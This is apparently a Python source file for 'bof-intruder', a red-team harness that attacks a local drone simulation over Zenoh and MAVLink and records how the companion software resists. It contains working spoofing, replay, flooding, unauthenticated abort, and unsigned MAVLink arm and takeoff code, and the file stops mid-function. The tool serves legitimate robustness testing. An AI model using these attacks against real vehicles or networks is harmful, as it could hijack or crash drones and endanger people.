"""`bof-intruder`: attack your own running SITL from outside, over its Zenoh and MAVLink links.

    bof-intruder --run runs/ future-seq            # the newest bof-sitl run folder under runs/
    bof-intruder --zenoh tcp/127.0.0.1:7447 abort  # or name the endpoints yourself
    bof-intruder --mavlink udpout:127.0.0.1:PORT arm --takeoff 10

Every attack is a function that returns what it sent (`Sent`: counts, and the exact
field values it promised: seq, stamp, positions...). An `Observer` (a separate, legitimate
ground-station session: with mTLS it needs the `gcs` identity) watches the companion's state
``bof/companion/<id>/state`` and the genuine target's fixes; `Observer.row` turns an attack
window into a table row: attack, sent, refused (from the companion's and the plant's own
counters), target kept, lockout (longest simulated time without a newly accepted genuine
fix), min range to the genuine target, notes.

Zenoh attacks (the intruder impersonates the target's sender id; units: s of simulated
time for stamps, m NED for offsets):

* ``future-seq``: one fix with seq 2**62 at the target's latest position.
* ``future-stamp``: one fix stamped 1e6 s after the target's latest fix.
* ``replay``: genuine fix payloads recorded earlier, re-sent verbatim.
* ``burst``: 3 back-to-back fixes 30 m off the target, seq far (1e6) ahead.
* ``patient-liar`` / ``patient-liar-altitude``: the steady spoof in the genuine epoch, seq 1 ahead, its offset
  drifting 0.5 m/s north (or down) without bound: each lie as plausible as the truth and first. The companion
  should hold the track (every fix refused ``contested``, health ``link_contested``) and stand off.
* ``steady-spoof``: a spoofed fix at the fix rate for a duration, on a track drifting away
  from the target (1 m/s up to 30 m) with the next seqs.
* ``abort``: an unauthenticated ``abort`` on ``bof/companion/<id>/command``.
* ``unknown-peer``: a peer (plain, or with no/foreign certificate against a secure SITL)
  that subscribes to ``bof/**`` and publishes one spoofed fix: it should see and deliver nothing.
* ``zenoh-flood``: N messages/s of malformed and well-formed-but-wrong payloads, for a duration.

MAVLink attacks (pymavlink, MAVLink 2):

* ``arm``: one COMMAND_LONG MAV_CMD_COMPONENT_ARM_DISARM (and with --takeoff, one
  MAV_CMD_NAV_TAKEOFF, param7 AMSL) on the ground-station link, unsigned, or signed with
  --signing-key FILE (the genuine ground station's path); armed is read from HEARTBEAT.
* ``mavlink-flood``: N datagrams/s of garbage and valid-but-unwanted messages, for a duration.

Payloads are built with interfaces.link_schema's encoders, so they carry whatever schema
version it writes (with an ``epoch`` field when the schema has one: by default the genuine
target's, as sniffed, i.e. the worst case of an intruder that has heard the target).
"""

from __future__ import annotations

import argparse
import dataclasses
import json
import math
import os
import random
import re
import socket
import sys
import threading
import time
from collections.abc import Callable, Sequence
from typing import Union
from dataclasses import dataclass, field
from pathlib import Path

os.environ.setdefault("MAVLINK20", "1")  # before pymavlink is imported anywhere
import numpy as np  # noqa: E402
import zenoh  # noqa: E402

from interfaces import link_schema as link  # noqa: E402
from interfaces.geodesy import geodetic_to_ned, ned_to_geodetic  # noqa: E402
from interfaces.zenoh_transport import LinkError, open_session, publisher, zenoh_config  # noqa: E402
from interfaces.cli import CommandParser, scenario_file  # noqa: E402
from studies.processes import poll_until  # noqa: E402

FUTURE_SEQ = 2**62
FUTURE_STAMP_OFFSET = 1e6  # s
BURST_OFFSET = 30.0  # m
BURST_COUNT = 3
BURST_SEQ_LEAD = 10**6
INTRUDER_ID = "intruder"
#: Whether this link_schema's fix/command payloads carry a publisher epoch (schema v2 and later).
HAS_EPOCH = "epoch" in {f.name for f in dataclasses.fields(link.TargetFix)}


# --- connecting ------------------------------------------------------------------------

@dataclass(frozen=True)
class Tls:
    """mTLS material for a Zenoh session: CA certificate, and this peer's certificate and key (PEM paths).

    cert/key None: a TLS peer with no certificate of its own (mutual TLS must refuse it)."""

    ca: Path
    cert: Path | None = None
    key: Path | None = None

    @classmethod
    def from_dir(cls, folder: Path, role: str) -> "Tls":
        """A `bof-certs DIR` folder: DIR/ca.pem, DIR/<role>.pem, DIR/<role>.key."""
        folder = Path(folder)
        return cls(folder / "ca.pem", folder / f"{role}.pem", folder / f"{role}.key")

    def overrides(self) -> dict[str, str]:
        """zenoh_config overrides (Zenoh's own TLS link settings, JSON5 values)."""
        # Without a certificate it offers none: a TLS client that trusts the CA and hopes the server does not
        # ask (with enable_mtls and no key, zenoh would not even try to connect).
        values = {"transport/link/tls/root_ca_certificate": str(self.ca),
                  "transport/link/tls/enable_mtls": self.cert is not None}
        if self.cert is not None and self.key is not None:
            for side in ("listen", "connect"):
                values[f"transport/link/tls/{side}_certificate"] = str(self.cert)
                values[f"transport/link/tls/{side}_private_key"] = str(self.key)
        return {k: json.dumps(v) for k, v in values.items()}


def open_peer(endpoint: str, tls: Tls | None = None, namespace: str | None = None) -> zenoh.Session:
    """A Zenoh peer session connected to `endpoint` (listening on a loopback port, as every SITL peer).

    With `tls`, the session listens on a loopback TLS port instead of TCP. namespace: the run's Zenoh
    namespace (a plain bof-sitl run has one: links.json), None for none. LinkError if it cannot open."""
    # Without a certificate of its own it cannot listen on TLS: it listens on plain loopback TCP and
    # only connects with TLS (as an intruder holding just the CA certificate would).
    listen = ["tls/127.0.0.1:0"] if tls is not None and tls.cert is not None else []
    return open_session(zenoh_config("peer", listen=listen, connect=[endpoint],
                                     overrides=tls.overrides() if tls is not None else None, namespace=namespace))


def wait_matched(pub: zenoh.Publisher, timeout: float) -> bool:
    """True once a subscriber matches `pub` (Zenoh's matching status), False after `timeout` s of wall time."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if pub.matching_status.matching:
            return True
        time.sleep(0.02)
    return bool(pub.matching_status.matching)


# --- payloads --------------------------------------------------------------------------

def make_fix(sender: str, seq: int, stamp: float, frame: str, position: Sequence[float],
             velocity: Sequence[float] | None = None, epoch: int | None = None) -> link.TargetFix:
    """A TargetFix of the installed schema: `epoch` is passed when the schema has one (else ignored)."""
    extra = {"epoch": epoch if epoch is not None else random.getrandbits(62)} if HAS_EPOCH else {}
    return link.TargetFix(sender, seq, stamp, frame, tuple(position), None if velocity is None else tuple(velocity),
                          **extra)


def make_command(sender: str, seq: int, stamp: float, command: str, detail: str = "",
                 epoch: int | None = None) -> link.Command:
    """A Command of the installed schema (with an epoch when the schema has one)."""
    extra = ({"epoch": epoch if epoch is not None else random.getrandbits(62)}
             if "epoch" in {f.name for f in dataclasses.fields(link.Command)} else {})
    return link.Command(sender, seq, stamp, command, detail, **extra)


def offset_position(fix: link.TargetFix, offset_ned: Sequence[float]) -> tuple[float, float, float]:
    """`fix`'s position moved by `offset_ned` (m, NED), in the fix's own frame."""
    if fix.frame == "ned":
        return tuple(float(a + b) for a, b in zip(fix.position, offset_ned))
    return ned_to_geodetic(offset_ned, fix.position)


def _epoch(reference: link.TargetFix, epoch: int | str | None) -> int | None:
    """'genuine' (None): the reference fix's epoch; 'new': a fresh random one; or the given int."""
    if epoch == "new":
        return random.getrandbits(62)
    if epoch is None or epoch == "genuine":
        return getattr(reference, "epoch", None)
    return int(epoch)


Reference = Union[link.TargetFix, Callable[[], "link.TargetFix | None"]]


def _resolve(reference: Reference) -> link.TargetFix:
    """The fix to imitate: `reference` itself, or the latest genuine fix when it is a callable. Called once the
    publisher is matched, just before sending, so that the spoof is newer than what the companion last took."""
    fix = reference() if callable(reference) else reference
    if fix is None:
        raise ValueError("no genuine fix to imitate yet")
    return fix


@dataclass
class Sent:
    """What an attack sent: attack name, key, count, the payloads (bytes, in order), when (monotonic s,
    first/last), and `promised`: the field values the attack set (seqs, stamps, positions...)."""

    attack: str
    key: str
    count: int = 0
    payloads: list[bytes] = field(default_factory=list)
    started: float = math.nan
    ended: float = math.nan
    matched: bool | None = None
    promised: dict = field(default_factory=dict)
    notes: list[str] = field(default_factory=list)
    kinds: dict[str, int] = field(default_factory=dict)

    def put(self, pub: zenoh.Publisher, payload: bytes, keep: bool = True) -> None:
        if self.count == 0:
            self.started = time.monotonic()
        pub.put(payload)
        self.count += 1
        self.ended = time.monotonic()
        if keep:
            self.payloads.append(payload)

    def summary(self) -> dict:
        return {"attack": self.attack, "key": self.key, "sent": self.count, "matched": self.matched,
                "promised": self.promised, "kinds": self.kinds, "notes": self.notes}


def _fix_publisher(session: zenoh.Session, sender: str, match_timeout: float) -> tuple[zenoh.Publisher, bool]:
    pub = publisher(session, link.target_fix_key(sender))
    return pub, wait_matched(pub, match_timeout)


# --- Zenoh attacks -----------------------------------------------------------------------

def spoof_future_seq(session: zenoh.Session, reference: Reference, *, seq: int = FUTURE_SEQ,
                     stamp_step: float = 0.01, epoch: int | str | None = None, match_timeout: float = 5.0,
                     sender: str | None = None) -> Sent:
    """One fix as the reference's sender, seq `seq` (2**62), at the reference position, stamp + stamp_step s.
    reference: a fix, or a callable giving the latest genuine one (then `sender` names the key to declare
    first, default: the callable's current fix's sender)."""
    pub, matched = _fix_publisher(session, sender or _resolve(reference).sender, match_timeout)
    reference = _resolve(reference)
    stamp = reference.stamp + stamp_step
    sent = Sent("future-seq", str(pub.key_expr), matched=matched,
                promised={"seq": seq, "stamp": stamp, "position": list(reference.position)})
    sent.put(pub, link.encode_target_fix(make_fix(reference.sender, seq, stamp, reference.frame, reference.position,
                                                  reference.velocity, _epoch(reference, epoch))))
    pub.undeclare()
    return sent


def spoof_future_stamp(session: zenoh.Session, reference: Reference, *, offset: float = FUTURE_STAMP_OFFSET,
                       epoch: int | str | None = None, match_timeout: float = 5.0) -> Sent:
    """One fix as the reference's sender (a fix or a callable, as spoof_future_seq), seq + 1, stamped `offset` s
    (1e6) after the reference, at its position."""
    pub, matched = _fix_publisher(session, _resolve(reference).sender, match_timeout)
    reference = _resolve(reference)
    seq, stamp = reference.seq + 1, reference.stamp + offset
    sent = Sent("future-stamp", str(pub.key_expr), matched=matched,
                promised={"seq": seq, "stamp": stamp, "position": list(reference.position)})
    sent.put(pub, link.encode_target_fix(make_fix(reference.sender, seq, stamp, reference.frame, reference.position,
                                                  reference.velocity, _epoch(reference, epoch))))
    pub.undeclare()
    return sent


def replay(session: zenoh.Session, sender: str, recorded: Sequence[bytes], *, rate_hz: float = 50.0,
           match_timeout: float = 5.0) -> Sent:
    """Re-send genuine fix payloads (`recorded`, verbatim, in order) at `rate_hz` on the target's key."""
    pub, matched = _fix_publisher(session, sender, match_timeout)
    sent = Sent("replay", str(pub.key_expr), matched=matched, promised={"payloads": len(recorded)})
    _paced(len(recorded), rate_hz, math.inf, lambda i: sent.put(pub, bytes(recorded[i])))
    pub.undeclare()
    return sent


def spoof_burst(session: zenoh.Session, reference: Reference, *, offset_ned: Sequence[float] = (0.0, BURST_OFFSET, 0.0),
                count: int = BURST_COUNT, seq_lead: int = BURST_SEQ_LEAD, stamp_step: float = 0.01,
                epoch: int | str | None = None, match_timeout: float = 5.0) -> Sent:
    """`count` (3) back-to-back fixes `offset_ned` (30 m east) off the reference position, consistent with each
    other (same place, stamps stamp_step s apart), seq `seq_lead` (1e6) ahead of the reference's.
    reference: a fix, or a callable giving the latest genuine one (read just before sending)."""
    pub, matched = _fix_publisher(session, _resolve(reference).sender, match_timeout)
    reference = _resolve(reference)
    epoch_value = _epoch(reference, epoch)
    position = offset_position(reference, offset_ned)
    seqs = [reference.seq + seq_lead + i for i in range(count)]
    stamps = [reference.stamp + stamp_step * (i + 1) for i in range(count)]
    sent = Sent("burst", str(pub.key_expr), matched=matched,
                promised={"seqs": seqs, "stamps": stamps, "offset_ned": list(offset_ned), "position": list(position),
                          "reference": list(reference.position)})
    for seq, stamp in zip(seqs, stamps):
        sent.put(pub, link.encode_target_fix(make_fix(reference.sender, seq, stamp, reference.frame, position, None,
                                                      epoch_value)))
    pub.undeclare()
    return sent


def spoof_steady(session: zenoh.Session, reference: Callable[[], link.TargetFix | None], *, rate_hz: float = 5.0,
                 duration: float = 20.0, drift: Sequence[float] = (0.0, 1.0, 0.0), max_offset: float = 30.0,
                 seq_lead: int = 1, stamp_step: float = 0.01, epoch: int | str | None = None,
                 match_timeout: float = 5.0) -> Sent:
    """A spoofed fix every 1/rate_hz s for `duration` s of wall time: the latest genuine fix (`reference()`,
    None: skip) moved by an offset growing at `drift` m/s (NED) up to `max_offset` m, seq `seq_lead` after
    the genuine seq, stamp `stamp_step` s after it. promised['offsets'] lists each fix's NED offset, m."""
    first = reference()
    sender = first.sender if first is not None else None
    if sender is None:
        raise ValueError("steady spoof: no genuine fix to follow yet")
    pub, matched = _fix_publisher(session, sender, match_timeout)
    drift = np.asarray(drift, dtype=float)
    sent = Sent("steady-spoof", str(pub.key_expr), matched=matched,
                promised={"offsets": [], "seqs": [], "stamps": [], "references": []})
    epoch_value = _epoch(first, epoch)
    start = time.monotonic()

    def one(_: int) -> None:
        ref = reference()
        if ref is None:
            return
        offset = drift * (time.monotonic() - start)
        norm = float(np.linalg.norm(offset))
        if norm > max_offset:
            offset *= max_offset / norm
        seq, stamp = ref.seq + seq_lead, ref.stamp + stamp_step
        sent.put(pub, link.encode_target_fix(make_fix(sender, seq, stamp, ref.frame, offset_position(ref, offset),
                                                      ref.velocity, epoch_value)))
        for name, value in (("offsets", offset.tolist()), ("seqs", seq), ("stamps", stamp),
                            ("references", list(ref.position))):
            sent.promised[name].append(value)

    _paced(math.inf, rate_hz, duration, one)
    pub.undeclare()
    return sent


def send_abort(session: zenoh.Session, companion_id: str, *, sender: str = INTRUDER_ID, stamp: float = 0.0,
               seq: int = 1, match_timeout: float = 5.0) -> Sent:
    """One well-formed, unauthenticated ``abort`` on ``bof/companion/<id>/command``."""
    pub = publisher(session, link.companion_command_key(companion_id))
    sent = Sent("abort", str(pub.key_expr), matched=wait_matched(pub, match_timeout),
                promised={"command": "abort", "sender": sender, "seq": seq, "stamp": stamp})
    sent.put(pub, link.encode_command(make_command(sender, seq, stamp, "abort", "bof-intruder")))
    pub.undeclare()
    return sent


def unknown_peer(endpoint: str, tls: Tls | None, reference: Reference | None, *, listen_s: float = 3.0,
                 sender: str | None = None, match_timeout: float = 3.0, namespace: str | None = None) -> Sent:
    """A peer nobody vouches for (plain, or `tls` with no or a foreign certificate): it publishes one future-seq
    fix (once a subscriber matches, or after match_timeout), then subscribes to ``bof/**`` for `listen_s` s.
    promised['seen'] counts what it heard;
    the fix is in payloads (the observer tells whether it was delivered). With mTLS both should be zero."""
    sent = Sent("unknown-peer", "bof/**", promised={"seen": 0, "session": "opened"})
    try:
        session = open_peer(endpoint, tls, namespace)
    except LinkError as error:
        sent.promised["session"] = f"refused: {error}"
        sent.matched = False
        return sent
    seen = [0]
    try:
        # Publish before subscribing: a local subscriber on bof/** would match the publisher at once, before
        # any route to the other peers exists, and the fix would go nowhere.
        if reference is not None or sender is not None:
            fix = _resolve(reference) if reference is not None else make_fix(sender, 0, 1.0, "ned", (0.0, 0.0, -20.0))
            pub, matched = _fix_publisher(session, fix.sender, match_timeout)
            fix = _resolve(reference) if reference is not None else fix
            sent.key = str(pub.key_expr)
            sent.matched = matched
            sent.put(pub, link.encode_target_fix(make_fix(fix.sender, FUTURE_SEQ, fix.stamp + 0.01, fix.frame,
                                                          fix.position, None, getattr(fix, "epoch", None))))
        session.declare_subscriber("bof/**", lambda sample: seen.__setitem__(0, seen[0] + 1))
        time.sleep(listen_s)
    finally:
        session.close()
    sent.promised["seen"] = seen[0]
    return sent


#: Payloads no decoder accepts, by the reason the companion should count.
MALFORMED: dict[str, bytes] = {
    "not_json": b"{not json",
    "not_utf8": b"\xff\xfe\xfd",
    "not_object": b"[1,2,3]",
    "wrong_schema": b'{"schema":"bof.target_fix/999","sender":"target-1","seq":1,"stamp":1.0}',
    "missing_field": json.dumps({"schema": link.TARGET_FIX_SCHEMA}).encode(),
    "not_finite": ('{"schema":"%s","sender":"x","seq":1,"stamp":NaN,"frame":"ned","position":[0,0,0]}'
                   % link.TARGET_FIX_SCHEMA).encode(),
}


def zenoh_flood(session: zenoh.Session, target_sender: str, companion_id: str, *, rate_hz: float = 500.0,
                duration: float = 10.0, seed: int = 0, match_timeout: float = 5.0,
                stop: threading.Event | None = None) -> Sent:
    """At most rate_hz messages/s for `duration` s of wall time (so at most rate_hz*duration + 1 in all):
    malformed payloads (MALFORMED) and well-formed-but-wrong ones (fixes from another sender on the
    target's key, an unknown command on the companion's command key), cycled. kinds counts each.
    `stop` (set by another thread) ends it early."""
    fixes, _ = _fix_publisher(session, target_sender, match_timeout)
    commands = publisher(session, link.companion_command_key(companion_id))
    wait_matched(commands, 1.0)
    rng = random.Random(seed)
    wrong_command = json.dumps({**json.loads(link.encode_command(make_command(INTRUDER_ID, 1, 0.0, "abort"))),
                                "command": "self-destruct"}).encode()
    menu: list[tuple[str, zenoh.Publisher, Callable[[int], bytes]]] = [
        *[(f"malformed:{reason}", fixes, lambda i, p=payload: p) for reason, payload in MALFORMED.items()],
        ("wrong_sender", fixes, lambda i: link.encode_target_fix(make_fix(
            f"{INTRUDER_ID}-{i % 7}", i, 1.0 + i * 1e-3, "ned", (rng.uniform(-100, 100), rng.uniform(-100, 100), -20.0)))),
        ("unknown_command", commands, lambda i: wrong_command),
    ]
    sent = Sent("zenoh-flood", f"{fixes.key_expr} + {commands.key_expr}", matched=bool(fixes.matching_status.matching),
                promised={"rate_hz": rate_hz, "duration": duration})

    def one(i: int) -> None:
        kind, pub, build = menu[i % len(menu)]
        sent.put(pub, build(i), keep=False)
        sent.kinds[kind] = sent.kinds.get(kind, 0) + 1

    _paced(math.inf, rate_hz, duration, one, stop)
    fixes.undeclare()
    commands.undeclare()
    return sent


def _paced(count: float, rate_hz: float, duration: float, action: Callable[[int], None],
           stop: threading.Event | None = None) -> int:
    """Call action(i) for i = 0, 1, ... at most `count` times, the i-th no earlier than i/rate_hz s after the
    start, none after `duration` s. Never faster than rate_hz on average (it falls behind, never catches up
    in a burst beyond the schedule); `stop` set ends it early. Returns how many calls were made."""
    if not (rate_hz > 0 and math.isfinite(rate_hz)):
        raise ValueError(f"rate must be positive, got {rate_hz!r}")
    start = time.monotonic()
    i = 0
    while i < count and not (stop is not None and stop.is_set()):
        due = start + i / rate_hz
        now = time.monotonic()
        if due - start > duration or now - start > duration:
            break
        if due > now:
            time.sleep(due - now)
        action(i)
        i += 1
    return i


# --- MAVLink attacks ---------------------------------------------------------------------

def read_signing_key(path: Path) -> bytes:
    """A MAVLink 2 signing secret from a file: 64 hex characters (32 bytes); ValueError otherwise."""
    text = Path(path).read_text().strip()
    if not re.fullmatch(r"[0-9a-fA-F]{64}", text):
        raise ValueError(f"{path}: expected 64 hex characters (a 32-byte MAVLink signing key)")
    return bytes.fromhex(text)


def _mavlink(url: str, source_system: int, source_component: int):
    from pymavlink import mavutil

    return mavutil.mavlink_connection(url, source_system=source_system, source_component=source_component)


@dataclass
class MavlinkResult:
    """What a MAVLink attack sent and saw: sent (count by message type), acks {command name: MAV_RESULT},
    heartbeats heard, armed (from the vehicle's HEARTBEAT: before the attack / at any time after),
    max relative altitude m (GLOBAL_POSITION_INT) after the attack, notes."""

    attack: str
    signed: bool
    sent: dict[str, int] = field(default_factory=dict)
    acks: dict[str, int | None] = field(default_factory=dict)
    heartbeats: int = 0
    armed_before: bool | None = None
    armed_after: bool = False
    max_relative_alt: float | None = None
    notes: list[str] = field(default_factory=list)


def mavlink_arm(url: str, *, signing_key: bytes | None = None, takeoff_altitude: float | None = None,
                target_system: int = 1, target_component: int = 1, wait_s: float = 3.0, observe_s: float = 5.0,
                source_system: int = 255, source_component: int = 190) -> MavlinkResult:
    """Send ONE COMMAND_LONG MAV_CMD_COMPONENT_ARM_DISARM (param1 = 1) to the vehicle through pymavlink
    `url` (e.g. ``udpout:127.0.0.1:PORT`` to the plant's ground-station socket, or ``udpin:127.0.0.1:14550``
    where the plant sends its ground-station stream), then with takeoff_altitude (m above home) one
    MAV_CMD_NAV_TAKEOFF with param7 = home altitude AMSL + takeoff_altitude (home from HOME_POSITION or
    GLOBAL_POSITION_INT). Unsigned, or MAVLink 2 signed with `signing_key` (32 bytes). A GCS HEARTBEAT goes
    first so the vehicle knows where to answer. Watches HEARTBEAT (armed flag), COMMAND_ACK and the
    relative altitude for observe_s s of wall time."""
    from pymavlink import mavutil

    mav = mavutil.mavlink
    result = MavlinkResult("arm", signing_key is not None)
    connection = _mavlink(url, source_system, source_component)
    try:
        if signing_key is not None:
            connection.setup_signing(signing_key, sign_outgoing=True, allow_unsigned_callback=lambda *_: True)
        state = {"home_alt": None}

        def pump(duration: float, until: Callable[[], bool] = lambda: False) -> None:
            end = time.monotonic() + duration
            while time.monotonic() < end and not until():
                msg = connection.recv_match(blocking=True, timeout=0.05)
                if msg is None:
                    continue
                kind = msg.get_type()
                if kind == "HEARTBEAT" and msg.get_srcSystem() == target_system:
                    result.heartbeats += 1
                    armed = bool(msg.base_mode & mav.MAV_MODE_FLAG_SAFETY_ARMED)
                    if result.armed_before is None:
                        result.armed_before = armed
                    if result.sent.get("COMMAND_LONG:ARM"):
                        result.armed_after = result.armed_after or armed
                elif kind == "COMMAND_ACK":
                    name = mav.enums["MAV_CMD"][msg.command].name if msg.command in mav.enums["MAV_CMD"] else str(msg.command)
                    result.acks[name] = int(msg.result)
                elif kind == "HOME_POSITION":
                    state["home_alt"] = msg.altitude * 1e-3
                elif kind == "GLOBAL_POSITION_INT":
                    if state["home_alt"] is None:
                        state["home_alt"] = (msg.alt - msg.relative_alt) * 1e-3
                    if result.sent.get("COMMAND_LONG:ARM"):
                        alt = msg.relative_alt * 1e-3
                        result.max_relative_alt = alt if result.max_relative_alt is None else max(result.max_relative_alt, alt)

        connection.mav.heartbeat_send(mav.MAV_TYPE_GCS, mav.MAV_AUTOPILOT_INVALID, 0, 0, mav.MAV_STATE_ACTIVE)
        result.sent["HEARTBEAT"] = 1
        pump(wait_s, lambda: result.heartbeats > 0 and (takeoff_altitude is None or state["home_alt"] is not None))
        if result.heartbeats == 0:
            result.notes.append(f"no vehicle HEARTBEAT within {wait_s:g} s: sending anyway")
        connection.mav.command_long_send(target_system, target_component, mav.MAV_CMD_COMPONENT_ARM_DISARM, 0,
                                         1.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0)
        result.sent["COMMAND_LONG:ARM"] = 1
        pump(min(observe_s, 2.0), lambda: "MAV_CMD_COMPONENT_ARM_DISARM" in result.acks)
        if takeoff_altitude is not None:
            if state["home_alt"] is None:
                # Deaf (the plant streams only to its configured ground station): PX4 reads a NaN altitude
                # as "the default takeoff altitude", so the takeoff is still a real command.
                result.notes.append("no home altitude heard (HOME_POSITION / GLOBAL_POSITION_INT): takeoff sent "
                                    "with a NaN altitude (PX4: MIS_TAKEOFF_ALT)")
                altitude = math.nan
            else:
                altitude = state["home_alt"] + takeoff_altitude
            connection.mav.command_long_send(target_system, target_component, mav.MAV_CMD_NAV_TAKEOFF, 0,
                                             math.nan, 0.0, 0.0, math.nan, math.nan, math.nan, altitude)
            result.sent["COMMAND_LONG:TAKEOFF"] = 1
        pump(observe_s)
    finally:
        connection.close()
    for name in ("MAV_CMD_COMPONENT_ARM_DISARM", "MAV_CMD_NAV_TAKEOFF"):
        if name == "MAV_CMD_NAV_TAKEOFF" and "COMMAND_LONG:TAKEOFF" not in result.sent:
            continue
        result.acks.setdefault(name, None)
    return result


def mavlink_flood(host: str, port: int, *, rate_hz: float = 500.0, duration: float = 10.0, seed: int = 0,
                  other_system: int = 42, stop: threading.Event | None = None) -> MavlinkResult:
    """At most rate_hz UDP datagrams/s for `duration` s of wall time to (host, port): garbage (random
    bytes, some starting with the MAVLink 2 magic 0xFD and a broken CRC) and valid-but-unwanted MAVLink
    2 messages (HEARTBEAT of another system, COMMAND_LONG and MANUAL_CONTROL for system `other_system`,
    STATUSTEXT), cycled. sent counts each kind. `stop` (set by another thread) ends it early."""
    from pymavlink.dialects.v20 import common as mav

    rng = random.Random(seed)
    encoder = mav.MAVLink(None, srcSystem=200, srcComponent=1)
    result = MavlinkResult("mavlink-flood", False)

    def packed(msg) -> bytes:
        return msg.pack(encoder)

    def broken_crc() -> bytes:
        data = bytearray(packed(encoder.heartbeat_encode(mav.MAV_TYPE_GCS, mav.MAV_AUTOPILOT_INVALID, 0, 0, 0)))
        data[-1] ^= 0xFF
        return bytes(data)

    menu: list[tuple[str, Callable[[], bytes]]] = [
        ("garbage", lambda: bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 280)))),
        ("bad_crc", broken_crc),
        ("heartbeat_other", lambda: packed(encoder.heartbeat_encode(mav.MAV_TYPE_GCS, mav.MAV_AUTOPILOT_INVALID, 0, 0, 0))),
        ("command_other_system", lambda: packed(encoder.command_long_encode(
            other_system, 1, mav.MAV_CMD_COMPONENT_ARM_DISARM, 0, 1, 0, 0, 0, 0, 0, 0))),
        ("manual_control_other", lambda: packed(encoder.manual_control_encode(other_system, 0, 0, 500, 0, 0))),
        ("statustext", lambda: packed(encoder.statustext_encode(mav.MAV_SEVERITY_INFO, b"bof-intruder flood"))),
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        def one(i: int) -> None:
            kind, build = menu[i % len(menu)]
            try:
                sock.sendto(build(), (host, port))
            except OSError as error:  # nobody there (ICMP port unreachable) or a full buffer
                result.notes.append(f"send: {error.strerror}") if len(result.notes) < 5 else None
                kind = "send_error"
            result.sent[kind] = result.sent.get(kind, 0) + 1

        _paced(math.inf, rate_hz, duration, one, stop)
    return result


# --- observing ---------------------------------------------------------------------------

@dataclass
class Row:
    """One line of the attack table: what was sent, refused, whether the target was kept, the longest lockout
    (s of simulated time without a newly accepted genuine fix), the closest approach to the genuine target (m)."""

    attack: str
    sent: int
    refused: int | None
    target_kept: bool | None
    lockout_s: float | None
    min_range_m: float | None
    notes: str

    def as_dict(self) -> dict:
        return dataclasses.asdict(self)


class Observer:
    """A legitimate ground-station view of the SITL: the companion's state and the genuine target's fixes.

    endpoint/tls: its own Zenoh session (with mTLS it needs a trusted identity, e.g. `gcs`). home: (lat deg,
    lon deg, alt m AMSL) of the NED origin, for geodetic fixes. Payloads an attack sent (`exclude`) are not
    counted as genuine. Thread-safe: Zenoh calls back on its own threads."""

    def __init__(self, endpoint: str, target_sender: str, companion_id: str, home: Sequence[float] | None = None,
                 tls: Tls | None = None, namespace: str | None = None) -> None:
        self.target_sender, self.companion_id, self.home = target_sender, companion_id, home
        self._lock = threading.Lock()
        self.states: list[tuple[float, link.CompanionState]] = []  # (monotonic s, state)
        self.fixes: list[tuple[float, link.TargetFix, bytes]] = []  # every payload heard on the target's key
        self.exclude: set[bytes] = set()
        self.session = open_peer(endpoint, tls, namespace)
        self.session.declare_subscriber(link.companion_state_key(companion_id), self._on_state)
        self.session.declare_subscriber(link.target_fix_key(target_sender), self._on_fix)

    def _on_state(self, sample) -> None:
        try:
            state = link.decode_state(sample.payload)
        except link.PayloadError:
            return
        with self._lock:
            self.states.append((time.monotonic(), state))

    def _on_fix(self, sample) -> None:
        payload = sample.payload.to_bytes()
        try:
            fix = link.decode_target_fix(payload)
        except link.PayloadError:
            return
        with self._lock:
            self.fixes.append((time.monotonic(), fix, payload))

    def close(self) -> None:
        self.session.close()

    def genuine(self, since: float = -math.inf) -> list[tuple[float, link.TargetFix, bytes]]:
        """Fixes heard from the target's key since `since` (monotonic s): those an attack sent (`exclude`) left
        out, and each payload only the first time it was heard (a replay repeats genuine payloads verbatim)."""
        seen: set[bytes] = set()
        out = []
        with self._lock:
            for item in self.fixes:
                if item[2] in seen or item[2] in self.exclude or item[1].sender != self.target_sender:
                    continue
                seen.add(item[2])
                if item[0] >= since:
                    out.append(item)
        return out

    def latest_genuine(self) -> link.TargetFix | None:
        fixes = self.genuine()
        return fixes[-1][1] if fixes else None

    def record(self, seconds: float) -> list[bytes]:
        """The genuine fix payloads heard over the next `seconds` s of wall time (to replay later)."""
        start = time.monotonic()
        time.sleep(seconds)
        return [payload for _, _, payload in self.genuine(start)]

    def wait(self, condition: Callable[[], bool], timeout: float) -> bool:
        return poll_until(condition, timeout, 0.05)

    def latest_state(self) -> link.CompanionState | None:
        with self._lock:
            return self.states[-1][1] if self.states else None

    def _ned(self, fix: link.TargetFix) -> np.ndarray:
        if fix.frame == "ned":
            return np.array(fix.position, dtype=float)
        if self.home is None:
            raise ValueError("geodetic fixes need the scenario's home to compare with the pursuer")
        return geodetic_to_ned(fix.position, self.home)

    def row(self, attack: str, sent: int, start: float, end: float, *, desired_range: float = 8.0,
            refused_baseline: link.CompanionState | None = None, notes: Sequence[str] = (),
            spoofed: Sequence[bytes] = (), rx_log: Path | None = None) -> Row:
        """The table row of an attack that started at monotonic time `start`, observed until `end`.

        With `rx_log` (the companion's zenoh_rx.jsonl: a verdict per fix, with its receipt time on the
        same monotonic clock), spoofs accepted and the lockout come from its accepted records, fix by fix
        (refused = sent - spoofs accepted); otherwise from the state payloads (5 Hz), as below.

        refused: of the `sent` messages, those the companion rejected, estimated from its own counters (state
        payloads carry counts, not verdicts per fix): the rejects in the window minus the genuine fixes heard
        but not accepted, within [0, sent - spoofs seen accepted]. A spoofed fix (`spoofed`: the attack's fix
        payloads) counts as accepted when the companion's last_seq/last_stamp ever equals its seq/stamp.
        lockout: longest stretch of simulated time, from the state before `start` to the last state, in which
        the companion's last accepted fix was never a new genuine one. min range: min over the window of
        |pursuer - genuine target| at the state's time (target interpolated between genuine fixes).
        target kept: at the end the estimate's range is within 1 m of the genuine range, which is within
        [r_d/2, 2 r_d]."""
        with self._lock:
            states = [(t, s) for t, s in self.states]
        genuine = sorted(self.genuine(), key=lambda item: item[1].stamp)
        before = refused_baseline or next((s for t, s in reversed(states) if t < start), None)
        window = [s for t, s in states if start <= t <= end]
        notes = list(notes)
        if not window:
            return Row(attack, sent, None, None, None, None, "; ".join(notes + ["no companion state heard"]))
        last = window[-1]
        refused = None
        spoof_ids = set()
        for payload in spoofed:
            try:
                fix = link.decode_target_fix(payload)
            except link.PayloadError:
                continue
            spoof_ids.add((fix.seq, fix.stamp))
        spoofs_accepted = len({(s.link.last_seq, s.link.last_stamp) for s in window} & spoof_ids)
        if spoof_ids:
